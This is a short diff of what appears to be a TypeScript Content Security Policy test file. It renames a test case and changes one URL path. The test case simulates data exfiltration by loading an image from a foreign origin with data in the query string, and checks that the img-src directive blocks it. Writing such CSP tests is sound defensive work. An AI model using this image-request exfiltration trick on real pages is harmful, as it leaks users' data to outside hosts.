@@ -78,10 +78,10 @@ const attacks: Record<string, { blocks: string; run: (foreign: string) => void |
         document.body.append(object)
       },
     },
-    'a picture that takes data away': {
+    'an image that takes data away': {
       blocks: 'img-src',
       run: (foreign) => {
-        new Image().src = `${foreign}/picture?data`
+        new Image().src = `${foreign}/image?data`
       },
     },
     'a request that takes data away': {
